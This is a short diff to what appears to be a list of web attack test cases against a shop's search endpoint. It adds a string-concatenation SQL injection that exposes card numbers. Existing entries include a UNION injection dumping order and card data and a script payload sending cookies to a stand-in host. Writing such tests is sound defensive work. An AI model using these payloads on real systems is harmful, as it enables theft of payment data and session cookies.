@@ -24,6 +24,8 @@ ATTACKS = (
         "/search",
         {"q": "x%' union select shopper, card, total from orders --"},
     ),
+    # Looks like nothing by itself: only the statement that it ends up in shows what it does.
+    Attack("SQL injection, another column", "/search", "/search", {"q": "brass' || card || '"}),
     Attack(
         "cross-site scripting", "/search", "/search", {"q": "<script>fetch('//203.0.113.9/'+document.cookie)</script>"}
     ),
